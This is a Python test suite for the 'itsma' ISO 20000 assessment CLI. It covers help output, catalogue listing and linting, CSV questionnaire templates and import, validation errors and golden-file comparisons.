#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Tests of the itsma command-line program (Python standard library only).

    cli_tests.py --itsma BIN --source DIR --work DIR [--examples DIR] GROUP...
    cli_tests.py ... --update-golden golden     (rewrite tests/cli/golden/ after a reviewed change)

Each GROUP is one CTest test (cli_GROUP). Every command, option and exit status is run;
error messages are checked for their file:line:column or file: /pointer form; the reports
of the sample data are compared with golden files whose figures were checked by hand once.
"""
import argparse
import base64
import csv
import hashlib
import html.parser
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys

ARGS = None
FAILURES = []
# ITSMA_CLI_VALGRIND=1 runs every command under valgrind; a leak or memory error fails it (99).
WRAPPER = ['valgrind', '-q', '--leak-check=full', '--show-leak-kinds=definite,indirect',
           '--errors-for-leak-kinds=definite,indirect', '--error-exitcode=99'] \
    if os.environ.get('ITSMA_CLI_VALGRIND') else []


# ---- helpers ----------------------------------------------------------------------------------

class Result:
    def __init__(self, rc, out, err):
        self.rc, self.out, self.err = rc, out, err

    def __repr__(self):
        return 'rc=%d\n--- stdout ---\n%s\n--- stderr ---\n%s' % (self.rc, self.out[:3000], self.err[:3000])


def run(*args, input=None, env=None, cwd=None, binary=None):
    """Run itsma (or another program) and return its status and output as text."""
    e = dict(os.environ)
    e.pop('NO_COLOR', None)
    if env:
        e.update(env)
    cmd = WRAPPER + [binary or ARGS.itsma] + [str(a) for a in args]
    p = subprocess.run(cmd, input=input.encode() if isinstance(input, str) else input,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=e, cwd=cwd, timeout=120)
    return Result(p.returncode, p.stdout.decode('utf-8', 'replace'), p.stderr.decode('utf-8', 'replace'))


def run_tty(*args, env=None):
    """Run itsma with its standard output on a pseudo-terminal; return (status, output)."""
    e = dict(os.environ)
    e.pop('NO_COLOR', None)
    e['TERM'] = 'xterm'
    if env:
        e.update(env)
    master, slave = pty.openpty()
    p = subprocess.Popen(WRAPPER + [ARGS.itsma] + [str(a) for a in args], stdout=slave, stderr=subprocess.PIPE,
                         env=e)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    p.wait(timeout=120)
    p.stderr.close()
    return p.returncode, b''.join(chunks).decode('utf-8', 'replace')


def check(cond, what, result=None):
    if not cond:
        msg = what if result is None else '%s\n%r' % (what, result)
        FAILURES.append(msg)
        print('FAIL: ' + msg.splitlines()[0], file=sys.stderr)
        if result is not None:
            print(repr(result), file=sys.stderr)


def expect(result, rc, what):
    check(result.rc == rc, '%s: expected exit status %d, got %d' % (what, rc, result.rc), result)
    return result


def src(*parts):
    return os.path.join(ARGS.source, *parts)


def work(*parts):
    return os.path.join(ARGS.work, *parts)


def data(name):
    return src('tests', 'cli', 'data', name)


Q3 = None
Q4 = None
MINI_CAT = None
MINI = None


def golden(name, text):
    path = src('tests', 'cli', 'golden', name)
    if ARGS.update_golden:
        with open(path, 'w', encoding='utf-8', newline='') as f:
            f.write(text)
        return
    with open(path, encoding='utf-8', newline='') as f:
        want = f.read()
    if want != text:
        got_path = work(name + '.got')
        with open(got_path, 'w', encoding='utf-8', newline='') as f:
            f.write(text)
        check(False, 'golden %s differs; got is in %s (diff -u %s %s)' % (name, got_path, path, got_path))


# ---- help, version, usage errors ------------------------------------------------------------

COMMANDS = ['catalogue', 'template', 'import', 'validate', 'score', 'report', 'compare', 'explain',
            'evidence', 'mapping', 'carry']


def test_help():
    r = expect(run('--help'), 0, 'itsma --help')
    for word in COMMANDS + ['Exit status', 'NO_COLOR']:
        check(word in r.out, 'itsma --help mentions %s' % word, r)
    for status in ('0  success', '1  invalid input', '2  usage error', '3  below a threshold'):
        check(status in r.out, 'itsma --help documents exit status "%s"' % status, r)
    r = expect(run('-h'), 0, 'itsma -h')
    r = expect(run('--version'), 0, 'itsma --version')
    check(re.match(r'itsma \d+\.\d+\.\d+ \(library \d+\.\d+\.\d+\)\n$', r.out), 'version format', r)
    for c in COMMANDS:
        r = expect(run(c, '--help'), 0, 'itsma %s --help' % c)
        check(r.out.startswith('Usage: itsma %s' % c), '%s --help starts with its usage' % c, r)
        check(r.err == '', '%s --help writes nothing on stderr' % c, r)
        r = expect(run('help', c), 0, 'itsma help %s' % c)
        check(r.out.startswith('Usage: itsma %s' % c), 'itsma help %s' % c, r)
    r = expect(run(), 2, 'itsma with no command')
    check('Usage: itsma' in r.err, 'usage on stderr', r)
    r = expect(run('frobnicate'), 2, 'unknown command')
    check("unknown command 'frobnicate'" in r.err and "Try 'itsma --help'" in r.err, 'unknown command message', r)
    r = expect(run('--frob'), 2, 'unknown global option')
    r = expect(run('help', 'frob'), 2, 'help for an unknown command')
    r = expect(run('score', '--frob', Q4), 2, 'unknown option')
    check("itsma score: unknown option '--frob'" in r.err and "Try 'itsma score --help'" in r.err,
          'unknown option message', r)
    r = expect(run('score', Q4, '--fail-under'), 2, 'option without its value')
    check("needs a value" in r.err, 'missing value message', r)
    r = expect(run('score', '--output=x', '--fail-under=abc', Q4), 2, '--opt=value form is parsed')
    check('--fail-under must be a percentage' in r.err, 'bad --fail-under message', r)
    r = expect(run('validate', '--quiet=yes', Q4), 2, 'a flag given a value')


# ---- catalogue --------------------------------------------------------------------------------

def test_catalogue():
    r = expect(run('catalogue', 'list'), 0, 'catalogue list')
    lines = r.out.splitlines()
    check(any(l.startswith('iso20000-1:2018 ') and '539 requirements, 21 processes' in l for l in lines),
          'catalogue list shows iso20000-1:2018 with its size', r)
    check(any(l.startswith('iso20000-1:2011 ') for l in lines), 'catalogue list shows iso20000-1:2011', r)

    r = expect(run('catalogue', 'show', 'iso20000-1:2018', '--format', 'json'), 0, 'show json')
    with open(src('data', 'catalogues', 'iso20000-1-2018.json'), encoding='utf-8', newline='') as f:
        check(r.out == f.read(), 'catalogue show --format json is the shipped JSON, byte for byte')

    r = expect(run('catalogue', 'show', 'iso20000-1:2018'), 0, 'show md (default)')
    md = r.out
    check(md.startswith('# ISO/IEC 20000-1:2018'), 'md starts with the title', r)
    check(md.count('- [ ] `') == 539 + 36, 'one checkbox per requirement and generic practice (%d)' % md.count('- [ ] `'))
    for heading in ('## 4 Context of the organization', '#### 8.6.1 Incident management (process)',
                    '## Process attributes: generic practices', '### PA2.1 Performance management (level 2)'):
        check(heading in md, 'checklist has heading %r' % heading)
    check('*Purpose:*' in md and 'Guidance: ITIL 4 Incident management' in md, 'process purpose and guidance shown')
    check(re.search(r'\*\(shall; basis standard; weighs [0-9.]+%; evidence: record\)\*', md) and '*(should;' in md,
          'obligation, effective weight and evidence hints shown', r)
    check('Each requirement shows its effective weight' in md, 'md says what the weights are', r)
    r2 = expect(run('catalogue', 'show', 'iso20000-1:2018', '--format', 'md'), 0, 'show --format md')
    check(r2.out == md, 'md is the default format')

    out = work('checklist.md')
    r = expect(run('catalogue', 'show', 'iso20000-1:2011', '--format=md', '-o', out), 0, 'show -o')
    check(r.out == '' and open(out, encoding='utf-8').read().startswith('# ISO/IEC 20000-1:2011'), 'written to -o')

    # a catalogue file: escaped Markdown and the JSON as the library writes it
    r = expect(run('catalogue', 'show', MINI_CAT), 0, 'show a file')
    check('A policy exists & is approved \\<by the board\\>.' in r.out, 'md escapes <>', r)
    check('The policy is reviewed \\| yearly \\*on time\\*.' in r.out, 'md escapes | and *', r)
    r = expect(run('catalogue', 'show', MINI_CAT, '--format', 'json'), 0, 'show a file as json')
    check(json.loads(r.out)['id'] == 'mini:1', 'json of a file', r)

    r = expect(run('catalogue', 'show', 'no-such:catalogue'), 1, 'unknown catalogue id')
    check("no built-in catalogue has that id" in r.err, 'unknown id message', r)
    r = expect(run('catalogue', 'show', data('syntax-error.json')), 1, 'show a broken file')
    check(re.search(r'syntax-error\.json:\d+:\d+: ', r.err), 'file:line:column on a broken catalogue', r)
    expect(run('catalogue'), 2, 'catalogue without subcommand')
    expect(run('catalogue', 'show'), 2, 'show without id')
    expect(run('catalogue', 'list', 'extra'), 2, 'list with an argument')
    expect(run('catalogue', 'frob'), 2, 'unknown subcommand')
    expect(run('catalogue', 'show', 'iso20000-1:2018', '--format', 'pdf'), 2, 'bad format')

    # basis, item, verify and revision where the catalogue has them (issue 13)
    v2 = src('tests', 'data', 'catalogue-v2.json')
    r = expect(run('catalogue', 'show', v2), 0, 'show md with basis, item and verify')
    check('Catalogue `test:v2`, version 1, content revision 2.' in r.out, 'md shows the content revision', r)
    check('- [ ] `8.1-03` Every incident is given a priority from its impact and urgency. '
          '*(shall; item b) 2); basis standard; weighs 30.8%; evidence: record)*\n'
          '  *Verify:* In the same sample, each priority matches the agreed impact and urgency criteria.\n'
          in r.out, 'md shows item, basis, effective weight and verify', r)
    check('*(should; basis good-practice; weighs 7.69%; evidence: record)*' in r.out, 'md of a should', r)
    r = expect(run('catalogue', 'show', v2, '--format', 'text'), 0, 'show text')
    check('    8.1-03 [shall, item b) 2), standard, weighs 30.8%] Every incident is given a priority'
          in r.out and '      verify: In the same sample,' in r.out, 'text shows item, basis, weight, verify', r)
    r = expect(run('catalogue', 'show', v2, '--weights', '--format', 'json'), 0, 'weights json')
    w = json.loads(r.out)
    check(w['catalogue'] == 'test:v2' and w['revision'] == 2 and len(w['requirements']) == 4, 'weights json head', r)
    check(abs(sum(q['effective_weight'] for q in w['requirements']) - 1) < 1e-9, 'effective weights add up to 1', r)
    check(w['requirements'][3] == {'id': '8.1-04', 'obligation': 'should', 'weight': 0.25,
                                   'effective_weight': w['requirements'][3]['effective_weight']}
          and abs(w['requirements'][3]['effective_weight'] - 0.25 / 3.25) < 1e-12, 'weights json row', r)
    r = expect(run('catalogue', 'show', v2, '--weights', '--format', 'text'), 0, 'weights text')
    check(re.search(r'^8\.1-04 +should +0\.25 +7\.69%$', r.out, re.M), 'weights text row', r)
    r = expect(run('catalogue', 'show', v2, '--weights'), 0, 'weights md')
    check('| `8.1-04` | should | 0.25 | 7.69% |' in r.out, 'weights md row', r)
    r = expect(run('catalogue', 'show', 'iso20000-1:2018', '--weights', '--format', 'json'), 0, 'weights of a built-in')
    check(abs(sum(q['effective_weight'] for q in json.loads(r.out)['requirements']) - 1) < 1e-9,
          'built-in effective weights add up to 1', r)
    # control characters never reach the terminal
    bad = work('control.json')
    with open(v2, encoding='utf-8') as f:
        doc = json.load(f)
    doc['sections'][0]['title'] = 'Con\u001b[31mtext\u0085'
    with open(bad, 'w', encoding='utf-8') as f:
        json.dump(doc, f)
    r = expect(run('catalogue', 'show', bad, '--format', 'text'), 0, 'text of hostile titles')
    check('4 Con?[31mtext?\n' in r.out and '\x1b' not in r.out, 'control characters replaced in text', r)

    # lint: a clean catalogue, then one with every kind of problem
    r = expect(run('catalogue', 'lint', v2), 0, 'lint a clean catalogue')
    check(r.out == '' and '0 problems in 4 requirements' in r.err, 'lint says there is no problem', r)
    clauses = work('clauses.tsv')
    with open(clauses, 'w', encoding='utf-8') as f:
        f.write('# clause\ttitle\n4\tContext\n8\tOperation\n8.1\tIncidents\n8.2\tProblems\n\n')
    flawed = work('flawed.json')
    doc = json.load(open(v2, encoding='utf-8'))
    reqs = doc['sections'][1]['sections'][0]['requirements']
    reqs.append({'id': '8.1-05', 'text': 'The organization shall close incidents.', 'obligation': 'shall'})
    reqs.append({'id': '8.1-6', 'text': 'every incident is recorded', 'obligation': 'should', 'weight': 9})
    doc['sections'].append({'id': '9', 'clause': '9', 'title': 'Evaluation', 'weight': 1, 'requirements': [
        {'id': '9-01', 'text': 'Results are evaluated.', 'basis': 'standard', 'verify': 'Read the minutes.'}]})
    with open(flawed, 'w', encoding='utf-8') as f:
        json.dump(doc, f)
    r = expect(run('catalogue', 'lint', flawed, '--clauses', clauses), 1, 'lint finds problems')
    kinds = sorted(set(re.findall(r' \[([a-z-]+)\]$', r.out, re.M)))
    check(kinds == ['duplicate-text', 'id-form', 'missing-clause', 'no-guidance', 'shall-basis',
                    'shall-in-text', 'shall-verify', 'weight'], 'every kind reported: %s' % kinds, r)
    check('8.1-05 is a shall without "verify": say how an auditor tests it [shall-verify]\n' in r.out, 'lint line', r)
    check('clause 8.2 is missing: no section has it as its clause [missing-clause]' in r.out, 'missing clause', r)
    check(re.search(r'flawed\.json: \d+ problems in 7 requirements\n', r.err), 'lint summary', r)
    r = expect(run('catalogue', 'lint', flawed, '--clauses', clauses, '--skip',
                   'weight,id-form,duplicate-text,shall-basis,shall-verify,shall-in-text,no-guidance,missing-clause'),
               0, 'lint with every kind skipped')
    expect(run('catalogue', 'lint', flawed, '--skip', 'nope'), 2, 'lint --skip of an unknown kind')
    expect(run('catalogue', 'lint'), 2, 'lint without a catalogue')
    expect(run('catalogue', 'lint', v2, '--weights'), 2, '--weights with lint')
    expect(run('catalogue', 'show', v2, '--clauses', clauses), 2, '--clauses with show')
    expect(run('catalogue', 'lint', v2, '--clauses', work('no-such.tsv')), 1, 'lint with a missing clause file')
    r = expect(run('catalogue', 'lint', 'iso20000-1:2018', '--skip',
                   'weight,duplicate-text,shall-basis,shall-verify,no-guidance'), 0,
               'the built-in 2018 catalogue has every clause, well-formed ids and no "shall" in its texts')
    check('clause tree was not checked' not in r.err, 'a built-in is checked against its shipped clause list', r)


# ---- template ----------------------------------------------------------------------------------

def read_csv_text(text):
    if text.startswith('\ufeff'):
        text = text[1:]
    return list(csv.reader(io.StringIO(text, newline='')))


def test_template():
    r = expect(run('template', 'iso20000-1:2018', '--format', 'csv'), 0, 'template csv')
    check(r.out.startswith('\ufefftype,id,'), 'a byte-order mark for spreadsheets', r)
    check('\r\n' in r.out and '\n' not in r.out.replace('\r\n', ''), 'CSV rows end with CRLF', r)
    rows = read_csv_text(r.out)
    check(rows[0] == ['type', 'id', 'clause', 'process', 'obligation', 'text', 'rating', 'evidence', 'note',
                      'item', 'verify'],
          'questionnaire header', rows[0])
    kinds = [row[0] for row in rows[1:]]
    check(kinds.count('requirement') == 539, 'one row per requirement')
    check(kinds.count('attribute') == 21 * 8, 'PA2.1-PA5.2 rows for each of the 21 processes')
    check(kinds.count('target') == 21, 'a target row per process')
    inc = [row for row in rows if row[1] == '8.6.1-01'][0]
    check(inc[2:5] == ['8.6.1', '8.6.1', 'shall'] and inc[5].startswith('Every incident is recorded'),
          'requirement row columns', inc)
    pa = [row for row in rows if row[0] == 'attribute' and row[3] == '8.6.1' and row[1] == 'PA3.1'][0]
    check(pa[5].startswith('PA3.1 Process definition of Incident management: '), 'attribute row text', pa)
    r = expect(run('template', MINI_CAT, '--format', 'csv', '--target', '3'), 0, 'template csv of a file')
    rows = read_csv_text(r.out)
    b102 = [row for row in rows if row[1] == 'B.1-02'][0]
    check(b102[5] == 'Incidents are resolved, as agreed, within "target" times.', 'quoted CSV field', b102)
    check('"Incidents are resolved, as agreed, within ""target"" times."' in r.out, 'RFC 4180 quoting', r)
    check([row[6] for row in rows if row[0] == 'target'] == ['3', '3'], '--target fills target rows', rows)

    out = work('template.json')
    r = expect(run('template', 'iso20000-1:2018', '--id', 'acme-q1', '--date', '2027-02-01', '--target', '2',
                   '-o', out), 0, 'template json')
    t = json.load(open(out, encoding='utf-8'))
    check(t['format'] == 'itsma-assessment/1' and t['id'] == 'acme-q1' and t['date'] == '2027-02-01',
          'template json header', t)
    check(t['targets'] == {'level': 2} and t['ratings'] == [], 'template json targets and ratings')
    check(len(t['x-checklist']['requirements']) == 539 and len(t['x-checklist']['processes']) == 21,
          'template json checklist')
    r = expect(run('validate', out), 0, 'the JSON template is a valid assessment')
    r = expect(run('score', out), 0, 'the JSON template scores')
    check(json.loads(r.out)['summary']['verdict'] == 'incomplete', 'an empty assessment is incomplete', r)

    r = expect(run('template', '--format', 'evidence-csv'), 0, 'evidence csv header')
    check(r.out == '\ufeffid,title,kind,collected,expires,uri,sha256,by,note\r\n', 'evidence header', r)
    r = expect(run('template', 'iso20000-1:2018'), 0, 'template json with today as date')
    check(re.match(r'\d{4}-\d\d-\d\d$', json.loads(r.out)['date']), 'today', r)

    expect(run('template'), 2, 'template without catalogue')
    expect(run('template', 'iso20000-1:2018', '--format', 'xml'), 2, 'bad format')
    expect(run('template', 'iso20000-1:2018', '--date', '2026-02-30'), 2, 'bad date')
    expect(run('template', 'iso20000-1:2018', '--id', 'bad id!'), 2, 'bad id')
    expect(run('template', 'iso20000-1:2018', '--target', '6'), 2, 'bad target')
    expect(run('template', 'iso20000-1:2018', 'extra'), 2, 'extra argument')
    expect(run('template', 'nope:1'), 1, 'unknown catalogue')


# ---- import and the questionnaire round trip -------------------------------------------------

def write_csv(path, rows, bom=True, crlf=True):
    buf = io.StringIO(newline='')
    w = csv.writer(buf, lineterminator='\r\n' if crlf else '\n')
    for row in rows:
        w.writerow(row)
    with open(path, 'w', encoding='utf-8-sig' if bom else 'utf-8', newline='') as f:
        f.write(buf.getvalue())


def fill_questionnaire(rows, assessment, note_override=None):
    """Fill a questionnaire (rows of `itsma template --format csv`) from an assessment."""
    header = rows[0]
    col = {name: header.index(name) for name in header}
    ratings = {x['requirement']: x for x in assessment['ratings']}
    attrs = {(x['process'], x['attribute']): x for x in assessment['attributes']}
    targets = assessment.get('targets', {}).get('processes', {})
    seps = ['; ', ', ', ' ', ';', ',\n']
    out = [header]
    for i, row in enumerate(rows[1:]):
        row = list(row)
        kind = row[col['type']]
        x = None
        if kind == 'requirement':
            x = ratings.get(row[col['id']])
        elif kind == 'attribute':
            x = attrs.get((row[col['process']], row[col['id']]))
        elif kind == 'target' and row[col['id']] in targets:
            row[col['rating']] = str(targets[row[col['id']]])
        if x:
            row[col['rating']] = x['rating'] if i % 7 else x['rating'].lower()
            row[col['evidence']] = seps[i % len(seps)].join(x.get('evidence', []))
            row[col['note']] = x.get('note', '')
            if note_override and kind == 'requirement' and row[col['id']] in note_override:
                row[col['note']] = note_override[row[col['id']]]
        out.append(row)
    return out


def evidence_rows(assessment):
    fields = ['id', 'title', 'kind', 'collected', 'expires', 'uri', 'sha256', 'by', 'note']
    rows = [fields]
    for e in assessment['evidence']:
        rows.append([e.get(f, '') for f in fields])
    return rows


def test_roundtrip():
    """template -> filled questionnaire -> import -> validate -> score gives the sample's figures."""
    q4 = json.load(open(Q4, encoding='utf-8'))
    tricky = 'Spreadsheet note, with a comma;\na line break and "quotes" \u2014 all kept.'
    q4_expected = json.loads(json.dumps(q4))
    for x in q4_expected['ratings']:
        if x['requirement'] == '8.6.1-02':
            x['note'] = tricky

    r = expect(run('template', 'iso20000-1:2018', '--format', 'csv'), 0, 'template csv')
    rows = fill_questionnaire(read_csv_text(r.out), q4, {'8.6.1-02': tricky})
    # spreadsheets reorder columns and add their own: move "note" first and add "owner"
    order = [8, 0, 1, 2, 3, 4, 5, 6, 7]
    rows = [[row[i] for i in order] + ['owner' if n == 0 else 'J. Smith'] for n, row in enumerate(rows)]
    qpath, epath, out = work('rt-questionnaire.csv'), work('rt-evidence.csv'), work('rt-q4.json')
    write_csv(qpath, rows)
    write_csv(epath, evidence_rows(q4))
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', q4['id'], '--date', q4['date'],
                   '--evidence', epath, '--title', q4['title'], '--organisation', q4['organisation'],
                   '--assessor', q4['assessor'], '--target', '2', '-o', out), 0, 'import')
    check('539 ratings, 168 process attributes, 87 evidence records' in r.err, 'import summary', r)
    got = json.load(open(out, encoding='utf-8'))
    for key in ('format', 'id', 'catalogue', 'title', 'organisation', 'assessor', 'date', 'evidence',
                'ratings', 'attributes', 'targets'):
        check(got.get(key) == q4_expected.get(key), 'imported %s equals the sample\'s' % key,
              None if got.get(key) == q4_expected.get(key) else '%r\n!=\n%r' % (got.get(key), q4_expected.get(key)))
    expect(run('validate', out), 0, 'validate the imported assessment')
    a = expect(run('score', out), 0, 'score the imported assessment')
    b = expect(run('score', Q4), 0, 'score the sample')
    check(a.out == b.out, 'the imported assessment scores exactly like the sample')

    # the same with LF line endings, no byte-order mark, standard column order, to stdout
    rows = fill_questionnaire(read_csv_text(run('template', 'iso20000-1:2018', '--format', 'csv').out), q4)
    write_csv(qpath, rows, bom=False, crlf=False)
    write_csv(epath, evidence_rows(q4), bom=False, crlf=False)
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', q4['id'], '--date', q4['date'],
                   '--evidence', epath, '--title', q4['title'], '--organisation', q4['organisation'],
                   '--assessor', q4['assessor'], '--target', '2'), 0, 'import to stdout')
    with open(out, 'w', encoding='utf-8') as f:
        f.write(r.out)
    check(run('score', out).out == b.out, 'LF, no BOM: same figures')


def test_import():
    # a small questionnaire of the mini catalogue with spreadsheet habits
    qpath, epath, out = work('mini-q.csv'), work('mini-e.csv'), work('mini-imported.json')
    write_csv(epath, [['id', 'title', 'kind', 'collected', 'expires', 'uri', 'sha256', 'by', 'note'],
                      ['E1', 'Policy, approved', 'Document', '2026-01-10', '2027-01-10', '', '', '', 'Signed\nby the board'],
                      ['E2', 'Tickets', 'record', '2026-02-01', '', 'exports/t.csv',
                       '763D16B822D4B39A86ACA4CF9F9DC7D5994D2901C03161F21271185F1E9A0E0F', 'Ops', '']])
    write_csv(qpath, [['Type', 'ID', 'Rating', 'Evidence IDs', 'Note'],
                      ['requirement', 'A-01', 'l+', 'E1', 'multi\nline, "note"'],
                      ['', 'A-02', '72,5 %', 'E1;E2', ''],
                      ['requirement', 'B.1-01', '', '', 'not assessed yet'],
                      ['requirement', 'B.2-01', 'excluded', '', 'We make no changes.'],
                      ['attribute', 'PA2.1', 'F', 'E2', ''],
                      ['target', 'B.1', '3', '', '']], bom=True)
    # the attribute row needs a process column: add it
    rows = read_csv_text(open(qpath, encoding='utf-8').read())
    rows = [row + (['process'] if i == 0 else ['B.1' if row[0] == 'attribute' else '']) for i, row in enumerate(rows)]
    write_csv(qpath, rows)
    r = expect(run('import', qpath, '--catalogue', MINI_CAT, '--id', 'mini-import', '--date', '2026-03-01',
                   '--evidence', epath, '-o', out), 0, 'import of a spreadsheet-style questionnaire')
    a = json.load(open(out, encoding='utf-8'))
    ratings = {x['requirement']: x for x in a['ratings']}
    check(ratings['A-01']['rating'] == 'L+' and ratings['A-01']['note'] == 'multi\nline, "note"', 'letters upper-cased, notes kept', a)
    check(ratings['A-02']['rating'] == 72.5 and ratings['A-02']['evidence'] == ['E1', 'E2'], 'decimal comma and %', a)
    check('B.1-01' not in ratings, 'empty rating: unassessed', a)
    check(a['scope']['exclude'] == [{'id': 'B.2-01', 'reason': 'We make no changes.'}], 'excluded with the note as reason', a)
    check(a['attributes'] == [{'process': 'B.1', 'attribute': 'PA2.1', 'rating': 'F', 'evidence': ['E2']}], 'attribute', a)
    check(a['targets'] == {'processes': {'B.1': 3}}, 'target row', a)
    check(a['evidence'][0]['kind'] == 'document' and a['evidence'][0]['note'] == 'Signed\nby the board', 'evidence kind and note', a)
    check(a['evidence'][1]['sha256'] == '763d16b822d4b39a86aca4cf9f9dc7d5994d2901c03161f21271185f1e9a0e0f', 'digest lower-cased', a)
    expect(run('validate', '--catalogue', MINI_CAT, out), 0, 'imported mini assessment is valid')

    # bad cells: every problem is reported with its line and column name, and nothing is written
    write_csv(epath, [['id', 'title', 'kind', 'collected', 'expires', 'uri', 'sha256', 'by', 'note'],
                      ['E1', 'Policy', 'memo', '2026-01-10', '', '', '', '', ''],
                      ['E2', '', 'record', '2026-02-30', '2025-01-01', '', 'abc', '', ''],
                      ['E1', 'Again', 'record', '2026-01-10', '', '', '', '', '']], bom=False, crlf=False)
    write_csv(qpath, [['type', 'id', 'process', 'rating', 'evidence', 'note'],
                      ['requirement', 'A-01', '', 'Q', '', 'long\nnote\nover lines'],
                      ['requirement', 'A-99', '', 'F', '', ''],
                      ['requirement', 'A-02', '', 'F', 'E7', ''],
                      ['requirement', 'B.1-01', '', 'F', '', ''],
                      ['requirement', 'B.1-01', '', 'L', '', ''],
                      ['attribute', 'PA1.1', 'B.1', 'F', '', ''],
                      ['attribute', 'PA2.1', 'A', 'F', '', ''],
                      ['attribute', 'PA9.9', 'B.1', 'F', '', ''],
                      ['target', 'B.1', '', '7', '', ''],
                      ['thing', 'B.1', '', '', '', ''],
                      ['requirement', 'B.2-01', '', 'n/a', '', '']], bom=False, crlf=False)
    if os.path.exists(out):
        os.remove(out)
    r = expect(run('import', qpath, '--catalogue', MINI_CAT, '--id', 'x', '--date', '2026-03-01',
                   '--evidence', epath, '-o', out), 1, 'import with bad cells')
    q, e = qpath, epath
    for fname, line, column, colname, text in [
            (e, 2, 11, 'kind', 'expected document, record, interview, observation, metric or other, not "memo"'),
            (e, 3, 4, 'title', 'an evidence record needs a title'),
            (e, 3, 12, 'collected', 'expected a date YYYY-MM-DD, not "2026-02-30"'),
            (e, 3, 35, 'sha256', 'expected 64 hexadecimal digits, not "abc"'),
            (e, 4, 1, 'id', 'evidence "E1" is already on line 2'),
            (q, 2, 19, 'rating', 'expected N, P-, P, P+, L-, L, L+, F or a number from 0 to 100, not "Q"'),
            (q, 5, 13, 'id', 'no requirement "A-99" in catalogue mini:1'),
            (q, 6, 21, 'evidence', 'no evidence record "E7" in the evidence list'),
            (q, 8, 13, 'id', 'requirement B.1-01 is already on line 7'),
            (q, 9, 11, 'id', 'PA1.1 is derived'),
            (q, 10, 17, 'process', '"A" is not a process of catalogue mini:1'),
            (q, 11, 11, 'id', 'expected a process attribute PA2.1 to PA5.2, not "PA9.9"'),
            (q, 12, 13, 'rating', 'a target is a capability level from 0 to 5, not "7"'),
            (q, 13, 1, 'type', 'expected requirement, attribute or target, not "thing"'),
            (q, 14, 26, 'note', 'an excluded requirement needs the reason in the note')]:
        wanted = '%s:%d:%d: column "%s": %s' % (fname, line, column, colname, text)
        check(any(l.startswith(wanted) for l in r.err.splitlines()), 'import reports %s' % wanted, r)
    check('problems found; nothing was written' in r.err, 'summary of problems', r)
    check(not os.path.exists(out), 'nothing written after problems')

    # an exclusion the 2018 catalogue forbids
    write_csv(qpath, [['id', 'rating', 'note'], ['8.6.1-01', 'excluded', 'Not for us']], bom=False)
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
               'an exclusion the catalogue forbids')
    check(re.search(r':2:10: column "rating": .*', r.err), 'forbidden exclusion names the cell', r)
    # evidence cited without an evidence list
    write_csv(qpath, [['id', 'rating', 'evidence'], ['8.6.1-01', 'F', 'EV-1']], bom=False)
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
               'evidence without --evidence')
    check('no evidence record "EV-1" (no evidence list was given)' in r.err, 'hint about --evidence', r)

    # CSV syntax: an unclosed quote is reported at its line and column
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('\ufeffid,rating,note\r\n8.6.1-01,F,"fine, quoted"\r\n8.6.1-02,L,"never\r\nclosed\r\n')
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
               'unclosed quote')
    check('%s:3:12: a quoted field is never closed' % qpath in r.err, 'unclosed quote position', r)
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('id,rating\n8.6.1-01,"F"x\n')
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
               'text after a closing quote')
    check('%s:2:13: unexpected character after a closing quote' % qpath in r.err, 'stray quote position', r)
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('id,grade\n8.6.1-01,F\n')
    r = expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1,
               'missing column')
    check('%s:1:1: the header row has no "rating" column' % qpath in r.err, 'missing column message', r)
    with open(qpath, 'w', encoding='utf-8', newline='') as f:
        f.write('')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 1, 'empty file')
    expect(run('import', work('no-such.csv'), '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'),
           1, 'missing file')

    # usage errors
    expect(run('import', qpath, '--id', 'x', '--date', '2026-03-01'), 2, 'import without --catalogue')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--date', '2026-03-01'), 2, 'without --id')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x'), 2, 'without --date')
    expect(run('import', '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'), 2, 'without file')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x y', '--date', '2026-03-01'), 2, 'bad id')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '1.3.2026'), 2, 'bad date')
    expect(run('import', qpath, '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01',
               '--target', 'high'), 2, 'bad target')
    expect(run('import', qpath, 'extra', '--catalogue', 'iso20000-1:2018', '--id', 'x', '--date', '2026-03-01'),
           2, 'extra argument')


# ---- validate -----------------------------------------------------------------------------------


def import_args(qpath, *more, cat=None):
    return ('import', qpath, '--catalogue', cat or 'iso20000-1:2018', '--id', 'x', '--date', '2026-11-20') + more


def read_json(path):
    """A JSON file written by the program, or {} when it is missing or broken (a failed check)."""
    try:
        with open(path, encoding='utf-8') as f:
            return json.load(f)
    except (OSError, ValueError) as e:
        check(False, 'read %s' % path, '%s: %s' % (type(e).__name__, str(e)[-200:]))
        return {}


def first(doc, key):
    """The first record of a list member, {} when there is none."""
    return (doc.get(key) or [{}])[0]


def problem_lines(r):
    return [l for l in r.err.splitlines() if not l.startswith('itsma import:')]


def test_csv():
    """Hostile and foreign CSV: nothing is cut, NUL and bad UTF-8 are refused where they are,
    ';' and tab files import, one broken evidence record is one problem, formulas are
    neutralised and round-trip."""
